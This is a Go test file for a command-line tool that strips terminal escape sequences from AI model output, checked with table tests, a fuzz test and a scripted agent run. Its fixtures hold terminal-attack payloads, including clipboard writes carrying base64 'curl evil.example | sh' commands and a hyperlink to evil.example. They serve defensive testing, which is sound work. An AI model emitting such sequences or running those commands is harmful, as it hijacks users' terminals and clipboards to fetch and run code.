package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	openai "github.com/sashabaranov/go-openai"

	"artifactflow/app/internal/apptest"
	"artifactflow/backend/llm/llmtest"
)

func TestEscapeJSONControls(t *testing.T) {
	for _, in := range []string{"plain ✓", "\u009b2J", "a\x7fb", "\u0085\u009d0;t\u009c", "é\u0080ÿ", "\x1b[2J\r"} {
		enc, err := json.Marshal(map[string]string{"text": in})
		if err != nil {
			t.Fatal(err)
		}
		safe := escapeJSONControls(enc)
		var back map[string]string
		if err := json.Unmarshal(safe, &back); err != nil || back["text"] != in {
			t.Errorf("%q: escaped JSON %s decodes to %q, %v; want the same text", in, safe, back["text"], err)
		}
		if c := controlFree(safe); c != "" {
			t.Errorf("%q: escaped JSON %q still holds %s", in, safe, c)
		}
	}
}

func TestStripControls(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain text unchanged", "Hello, wörld → 中文 ✓ 🙂\n\tindented", "Hello, wörld → 中文 ✓ 🙂\n\tindented"},
		{"CSI clear screen", "a\x1b[2Jb", "ab"},
		{"CSI colour with parameters", "a\x1b[1;31mred\x1b[0m", "ared"},
		{"CSI private mode (alternate screen)", "a\x1b[?1049hb", "ab"},
		{"CSI with an intermediate (cursor style)", "a\x1b[2 qb", "ab"},
		{"OSC 0 window title ended by BEL", "a\x1b]0;pwned\x07b", "ab"},
		{"OSC 52 clipboard write ended by ST", "a\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\b", "ab"},
		{"OSC 8 hyperlink keeps its text", "see \x1b]8;;https://evil.example/\x1b\\this link\x1b]8;;\x1b\\.", "see this link."},
		{"OSC unterminated swallows to the end", "a\x1b]52;c;AAAA", "a"},
		{"OSC cut by another ESC", "a\x1b]0;t\x1b[2Jb", "ab"},
		{"OSC cut by CAN", "a\x1b]0;t\x18b", "ab"},
		{"DCS", "a\x1bPq#0;2;0;0;0\x1b\\b", "ab"},
		{"APC", "a\x1b_Gf=100;AAAA\x1b\\b", "ab"},
		{"PM and SOS", "a\x1b^pm\x1b\\b\x1bXsos\x1b\\c", "abc"},
		{"two-character escapes (reset, save cursor)", "a\x1bcb\x1b7c", "abc"},
		{"escape with intermediate (charset)", "a\x1b(Bb\x1b#8c", "abc"},
		{"lone ESC at the end", "a\x1b", "a"},
		{"ESC before a non-ASCII letter", "a\x1bé", "aé"},
		{"8-bit CSI as UTF-8 (U+009B)", "a\u009b2Jb\u009b31mc", "abc"},
		{"8-bit CSI as a raw byte", "a\x9b2Jb", "ab"},
		{"8-bit OSC as UTF-8, ended by 8-bit ST", "a\u009d0;title\u009cb", "ab"},
		{"8-bit OSC as a raw byte, ended by BEL", "a\x9d52;c;AAAA\x07b", "ab"},
		{"8-bit OSC with UTF-8 holding byte 0x9C inside", "a\u009d0;✜ title\u009cb", "ab"},
		{"8-bit DCS and APC", "a\u0090q\u009cb\u009fx\u009cc", "abc"},
		{"other C1 controls alone (NEL, IND)", "a\u0085b\u0084c", "abc"},
		{"C0 controls: NUL, BS, BEL, CR, VT, FF, DEL", "a\x00b\x08c\x07d\re\vf\fg\x7fh", "abcdefgh"},
		{"CRLF becomes LF", "line one\r\nline two\r\n", "line one\nline two\n"},
		{"invalid UTF-8 outside C1 becomes U+FFFD", "a\xffb\xc3", "a\uFFFDb\uFFFD"},
		{"U+FFFD itself is text", "a\uFFFDb", "a\uFFFDb"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := string(stripControls([]byte(tt.in))); got != tt.want {
				t.Errorf("stripControls(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

// controlFree reports the first control byte or rune left in b, or "" when there is none.
func controlFree(b []byte) string {
	for i := 0; i < len(b); {
		r, size := utf8.DecodeRune(b[i:])
		switch {
		case r == utf8.RuneError && size == 1:
			return "invalid UTF-8"
		case r < 0x20 && r != '\n' && r != '\t', r >= 0x7f && r <= 0x9f:
			return fmt.Sprintf("U+%04X", r)
		}
		i += size
	}
	return ""
}

// FuzzStripControls: whatever goes in, what comes out is valid UTF-8 with no control
// character but \n and \t, stripping again changes nothing, and clean text is untouched.
func FuzzStripControls(f *testing.F) {
	for _, s := range []string{"plain", "a\x1b]52;c;QQ==\x07b", "\x1b[2J", "\u009b2J", "\x9b2J", "\u009d0;t\u009c",
		"\x1bP\x1b\\", "x\r\ny", "\xff\xfe", "✜\u009d✜"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		out := stripControls(in)
		if c := controlFree(out); c != "" {
			t.Fatalf("stripControls(%q) = %q still holds %s", in, out, c)
		}
		if again := stripControls(out); !bytes.Equal(again, out) {
			t.Fatalf("not idempotent: %q -> %q -> %q", in, out, again)
		}
		if controlFree(in) == "" && !bytes.Equal(out, in) {
			t.Fatalf("clean text changed: %q -> %q", in, out)
		}
	})
}

// escapes is model output carrying the terminal attacks: an OSC 52 clipboard write, an
// OSC 8 hyperlink, a clear screen, an 8-bit CSI and OSC (as UTF-8: JSON cannot carry raw
// bytes), a window title and a carriage return hiding text.
const (
	escapedAnswer = "Answer: \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07read " +
		"\x1b]8;;https://evil.example/\x1b\\the report\x1b]8;;\x1b\\.\x1b[2J\x1b[3J" +
		" Done\u009b2J.\u009d0;pwned\u009c\rEnd."
	visibleAnswer = "Answer: read the report. Done.End."
	escapedOrder  = "Find \x1b]0;owned\x07sources\u009b1;1H on the Moon\x1b[2J."
	visibleOrder  = "Find sources on the Moon."
	// Tool parameters are printed as JSON, which escapes ESC but not C1 controls.
	escapedArtifact = "Plan\u009d52;c;AAAA\u009c now\u009b2J"
)

// escapeWorld scripts a run whose model output carries terminal escapes: the lead sends
// search_agent out with an escaped instruction (printed on stderr), creates an artifact
// whose parameters carry escapes (printed on stderr), and answers with escapes (stdout).
func escapeWorld(t *testing.T) *apptest.World {
	return apptest.NewWorld(t, "native", func(w *apptest.World) llmtest.Handler {
		return func(req openai.ChatCompletionRequest, _ int) llmtest.Reply {
			results := apptest.ToolResults(req)
			switch apptest.AgentOf(req) {
			case "search_agent":
				return llmtest.Reply{Content: "Nothing found."}
			case "lead_agent":
				switch len(results) {
				case 0:
					return w.ToolCall("call_subagent", map[string]any{"agent_name": "search_agent", "instruction": escapedOrder})
				case 1:
					return w.ToolCall("create_artifact", map[string]any{"id": "task_plan", "content_type": "markdown",
						"title": escapedArtifact, "content": "# Plan"})
				default:
					return llmtest.Reply{Content: escapedAnswer}
				}
			}
			return llmtest.Reply{Status: 400, ErrorMessage: "unknown agent"}
		}
	})
}

// TestAskStripsTerminalEscapes: escape sequences in model output reach neither stdout nor
// stderr of `ask`, while the visible text does; the stored answer and --json output keep
// the model's text exactly, --json with every control character escaped (encoding/json
// alone leaves C1 controls such as the 8-bit CSI raw).
func TestAskStripsTerminalEscapes(t *testing.T) {
	w := escapeWorld(t)
	code, stdout, stderr := ask(context.Background(), w, apptest.Question)
	if code != ExitOK {
		t.Fatalf("exit %d, stderr:\n%s", code, stderr)
	}
	for name, out := range map[string]string{"stdout": stdout, "stderr": stderr} {
		if c := controlFree([]byte(out)); c != "" {
			t.Errorf("%s holds the control character %s: %q", name, c, out)
		}
		for _, payload := range []string{"evil.example", "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==", "pwned", "owned", "52;c", "2J"} {
			if strings.Contains(out, payload) {
				t.Errorf("%s holds %q, part of an escape sequence: %q", name, payload, out)
			}
		}
	}
	if stdout != visibleAnswer+"\n" {
		t.Errorf("stdout = %q, want the visible answer %q", stdout, visibleAnswer)
	}
	if !strings.Contains(stderr, "→ search_agent: "+visibleOrder) || !strings.Contains(stderr, `"title":"Plan now"`) {
		t.Errorf("stderr lost the visible text of the instruction or the artifact title:\n%s", stderr)
	}
	var stored string
	if err := w.DB().QueryRow(`SELECT graph_response FROM messages`).Scan(&stored); err != nil {
		t.Fatal(err)
	}
	if stored != escapedAnswer {
		t.Errorf("stored answer = %q; the terminal filter must not touch what is stored", stored)
	}

	code, stdout, stderr = ask(context.Background(), w, "--json", apptest.Question)
	if code != ExitOK {
		t.Fatalf("--json: exit %d, stderr:\n%s", code, stderr)
	}
	if c := controlFree([]byte(stdout)); c != "" {
		t.Errorf("--json stdout holds the control character %s", c)
	}
	var last struct {
		Type string `json:"type"`
		Data struct {
			Response string `json:"response"`
		} `json:"data"`
	}
	lines := strings.Split(strings.TrimSpace(stdout), "\n")
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &last); err != nil {
		t.Fatal(err)
	}
	if last.Type != "complete" || last.Data.Response != escapedAnswer {
		t.Errorf("--json complete event %+v; want the model's answer exactly, JSON-escaped", last)
	}
}
